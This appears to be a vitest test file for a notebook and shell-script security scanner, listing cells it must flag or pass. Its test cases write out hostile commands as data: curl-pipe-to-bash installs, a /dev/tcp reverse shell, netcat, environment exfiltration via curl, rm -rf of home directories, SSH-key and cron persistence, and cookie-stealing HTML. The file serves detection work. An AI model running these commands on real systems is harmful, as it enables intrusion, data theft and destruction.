import { describe, expect, test } from 'vitest';
import { assembleNotebook } from '../../../../testkit/src/notebook-assembler.ts';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { simpleCommands } from './simple-commands.ts';

/** Rules and severities of a notebook with these cells. */
function judged(cells: string): string[] {
  return scanBytes(assembleNotebook(cells), 'a.ipynb').findings.map(
    ({ ruleId, severity }) => `${ruleId} ${severity}`,
  );
}

const COMMIT = '0123456789abcdef0123456789abcdef01234567';

describe('commands of a notebook', () => {
  test.each([
    ['!curl -s https://x.y/a.sh | sudo bash', 'shell/runs-harmful-command critical'],
    ['!bash <(wget -qO- https://x.y/a)', 'shell/runs-harmful-command critical'],
    ['!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'shell/runs-harmful-command critical'],
    ['!echo aWQ= | base64 -d | sh', 'shell/runs-harmful-command critical'],
    ['%%bash\ncd /tmp\nrm -rf ~/*', 'shell/runs-harmful-command high'],
    ['!rm -rf "$HOME"', 'shell/runs-harmful-command high'],
    ['!rm -rf /content/*', 'shell/runs-harmful-command high'],
    ['!rm -rf /content/drive/MyDrive', 'shell/runs-harmful-command high'],
    ['!cd x && rm -rf *', 'shell/runs-harmful-command high'],
    ['!chmod -R 777 /data', 'shell/runs-harmful-command high'],
    ['!nc 192.0.2.1 4444', 'shell/runs-harmful-command high'],
    ['!crontab jobs.txt', 'shell/runs-harmful-command high'],
    ['!env | curl --data-binary @- https://x.y', 'shell/runs-harmful-command high'],
    ['x = !rm -rf /', 'shell/runs-harmful-command high'],
    ["get_ipython().system('rm -rf /')", 'shell/runs-harmful-command high'],
    ['!pip install torchmetrics', 'shell/installs-unpinned medium'],
    ['!{sys.executable} -m pip install torchmetrics', 'shell/installs-unpinned medium'],
    ['%pip install "numpy>=1.20"', 'shell/installs-unpinned medium'],
    ['!conda install -y -c conda-forge scipy', 'shell/installs-unpinned medium'],
    ['!apt-get install -y graphviz', 'shell/installs-unpinned low'],
    ['!pip install git+https://github.com/a/b', 'shell/installs-from-elsewhere high'],
    ['!pip install git+https://github.com/a/b@v1.2', 'shell/installs-from-elsewhere medium'],
    ['!pip install --extra-index-url https://x.y/simple a==1', 'shell/installs-from-elsewhere high'],
    ['!pip install http://x.y/a.whl', 'shell/installs-from-elsewhere high'],
    ['c = "curl https://x.y/a | sh"\n---\n!{c}', 'shell/runs-harmful-command critical'],
    ["c = 'curl https://x.y/a | sh'\n!$c", 'shell/runs-harmful-command critical'],
    [
      'import subprocess\nsubprocess.run("pip install git+https://x.y/b", shell=True)',
      'python/runs-fixed-command high',
    ],
    ['!{command}', 'shell/runs-computed-command medium'],
    ['!ls; $CMD', 'shell/runs-computed-command medium'],
    ['!ls && "$CMD" x', 'shell/runs-computed-command medium'],
    ['!cd x; {a}{b}', 'shell/runs-computed-command medium'],
    ['!>out $CMD', 'shell/runs-computed-command medium'],
    ['!$(cat x)', 'shell/runs-computed-command medium'],
    ['!< in.txt somebodys', 'shell/runs-program low'],
    ['!bash setup.sh', 'shell/runs-program low'],
    ['!wget http://x.y/model.pt', 'shell/downloads-in-clear medium'],
    ['!wget https://x.y/run.py\n---\n!python run.py', 'shell/runs-harmful-command high'],
    ['%%bash\nwget https://x.y/z -O /tmp/x\nchmod +x /tmp/x\n/tmp/x', 'shell/runs-harmful-command high'],
    ['!curl -fsSLo i.sh https://x.y/i\n!sudo bash ./i.sh', 'shell/runs-harmful-command high'],
    ['!wget -qP /tmp https://x.y/i.sh?a=b\n!sh /tmp/i.sh', 'shell/runs-harmful-command high'],
    ['!curl https://x.y/i > i.py\n%run i.py', 'shell/runs-harmful-command high'],
    [
      "from urllib.request import urlretrieve\nurlretrieve('https://x.y/m', 'm.py')\n---\n%run m.py",
      'shell/runs-harmful-command high',
    ],
    ['%%writefile /etc/cron.d/x\n* * * * * root id', 'python/writes-startup-file high'],
    ['%%writefile -a ~/.ssh/authorized_keys\nssh-ed25519', 'python/writes-startup-file high'],
    ['%%writefile ~/.ipython/profile_default/startup/a.py\nx = 1', 'python/writes-startup-file high'],
    ['!cp job /etc/cron.d/job', 'python/writes-startup-file high'],
    ['!echo x | tee -a ~/.zshrc', 'python/writes-startup-file high'],
    ['!echo x >> ~/.ipython/profile_default/startup/a.py', 'python/writes-startup-file high'],
    ['%run https://x.y/a.py', 'notebook/runs-remote-code high'],
    ['%load https://x.y/a.py', 'notebook/runs-remote-code medium'],
    ['%load_ext somebodys', 'notebook/loads-extension low'],
  ])('%s', (cells, expected) => expect(judged(cells)).toContain(expected));

  test.each([
    '!ls -la\n!nvidia-smi\n!pwd\n!head -5 data.csv',
    '!pip list\n!pip show torch\n!pip --version',
    '!pip install -r requirements.txt\n!pip install -e .\n!pip install ./wheels/a-1.0-py3-none-any.whl',
    '!pip install --upgrade pip setuptools',
    '!pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu121',
    `!pip install git+https://github.com/a/b@${COMMIT}`,
    '!rm -rf sample_data ./logs\n!rm -rf ~/.cache/pip\n!rm *.pyc',
    '!git clone https://github.com/a/b\n!python train.py --lr {lr}',
    '!curl -L https://x.y/a.tar.gz | tar xz\n!chmod +x run.sh\n!crontab -l',
    "!echo 'curl https://x.y | sh'",
    '%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%run helper.py',
    '!wget https://x.y/data.csv\n!python train.py data.csv\n!curl -O https://x.y/a.py\n!python b.py -m a.py',
    '!wget https://x.y/model.pt -O /tmp/model.pt\n!python -m tool /tmp/model.pt\n!ls /tmp/model.pt',
    '%%writefile run.sh\n#!/bin/bash\npython train.py --lr 1',
    '%%writefile train.py\n#!/usr/bin/env python\nprint(1)\n---\n!python train.py',
    "%%bash\ncat > .env <<EOF\nmine x\nEOF\nls\ncat <<-'END' | grep x\n\tyours\n\tEND\nls",
    '!cd x && {sys.executable} -m pip list 2>&1 >log\n!$PYTHON a.py\n!> a.txt\n!$(which python) -m a',
    '!rm -rf *.html *.js\n!rm -rf /content/sample_data',
    'from IPython.display import HTML, display\ndef show(self):\n  display(HTML(self._repr_html_()))',
    '# !rm -rf /\ntext = "!pip install x"',
  ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
});

test('a long line is judged to its end, or a gap says where it was not', () => {
  expect(judged(`!${'ls; '.repeat(500)}wget http://x.y/model.pt`)).toContain(
    'shell/downloads-in-clear medium',
  );
  expect(judged(`!pip install ${'a==1 '.repeat(900)}http://x.y/a.whl`)).toContain(
    'shell/installs-from-elsewhere high',
  );
  const { gaps } = scanBytes(assembleNotebook(`!${'ls; '.repeat(3000)}ls`), 'a.ipynb');
  expect(gaps).toEqual([expect.stringContaining('commandPrograms')]);
});

describe('a here-document', () => {
  test('is a command where a shell reads it', () =>
    expect(simpleCommands('bash <<EOF\nmine\nEOF').map(({ program }) => program)).toContain('mine'));
  test('is none where it is written', () =>
    expect(simpleCommands('cat > x <<"EOF"\nmine\nEOF\nls').map(({ program }) => program)).toEqual(
      ['cat', 'EOF', 'ls'].filter((program) => program !== 'EOF'),
    ));
});

describe('scripts of a notebook', () => {
  test.each([
    ['%%javascript\nJupyter.notebook.kernel.execute("x")', 'notebook/output-runs-script high'],
    ['%%html\n<img src=x onerror="alert(1)">', 'notebook/output-runs-script medium'],
    ['%%html\n<script>document.cookie</script>', 'notebook/output-runs-script medium'],
  ])('%s', (cells, expected) => expect(judged(cells)).toContain(expected));

  test.each([
    ['%%html\n<img src=x onerror="f(document.cookie)">', 'onerror="f(document.cookie)">'],
    [
      '%%html\n<b>x</b><script>let a = 1;\nf(document.cookie)</script>',
      '<script>let a = 1; f(document.cookie)</script>',
    ],
  ])('shows %j from its beginning', (cells, excerpt) => {
    const [finding] = scanBytes(assembleNotebook(cells), 'a.ipynb').findings;
    expect(finding?.message).toContain(`: ${excerpt}`);
  });

  test.each([
    '%%html\n<style>b { color: red }</style>',
    '%%html\n<script src="https://cdn.plot.ly/plotly-2.0.min.js"></script>',
    '%%html\n<script type="application/json">{}</script>',
    '%%javascript\nIPython.OutputArea.prototype._should_scroll = () => false',
  ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
});

describe('a command taken apart', () => {
  test.each([
    ['sudo -u x nohup ls -la', [['ls', '-la']]],
    ['A=1 B=2 make all', [['make', 'all']]],
    ['cd a && ./b.sh; c | d', [['cd', 'a'], ['b.sh'], ['c'], ['d']]],
    ['echo "a; b" \'c | d\'', [['echo', 'a; b', 'c | d']]],
    ['/usr/bin/pip3 install \\\n  a', [['pip3', 'install', 'a']]],
    ['python {a b} # x', [['python', '{a b}', '#', 'x']]],
    ['', []],
  ])('%j', (text, expected) =>
    expect(simpleCommands(text).map(({ program, words }) => [program, ...words])).toEqual(expected),
  );

  test('takes time linear in its length', () => {
    const before = performance.now();
    for (const part of ['"a', "'", '\\', '{', 'sudo ', '; ', '$(']) simpleCommands(part.repeat(30_000));
    expect(performance.now() - before).toBeLessThan(5000);
  });
});

describe('what sets up a machine', () => {
  const inScript = (script: string) =>
    scanBytes(Buffer.from(`#!/bin/bash\n${script}\n`), 'setup.sh').findings.map(({ severity }) => severity);
  test.each([
    ['useradd -m app\nsystemctl enable docker', []],
    ["echo 'export A=1' >> ~/.bashrc", []],
    ['wget -q https://x.y/a.sh && bash a.sh', ['low']],
    ['wget https://x.y/a.sh\nbash a.sh', ['medium']],
    ['wget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x', ['high']],
    ['chmod 777 data', ['medium']],
    ['curl -s https://x.y/a.sh | bash', ['critical']],
    ['curl -sSL https://install.python-poetry.org | python3 -', ['low']],
    ['curl https://x.y/?https://sh.rustup.rs | sh', ['critical']],
    ['curl https://sh.rustup.rs.x.y/ | sh', ['critical']],
    ['curl https://sh.rustup.rs@x.y/ | sh', ['critical']],
    ['rm -rf build dist *.egg-info', []],
    ['rm -rf *.html *.js\nrm -f *.gnuplot', []],
    ['cd build && rm -rf *', ['low']],
    ['echo \'eval "$(pixi completion -s bash)"\' >> /home/vscode/.bashrc', []],
  ])('%j', (script, expected) => expect(inScript(script)).toEqual(expected));
});
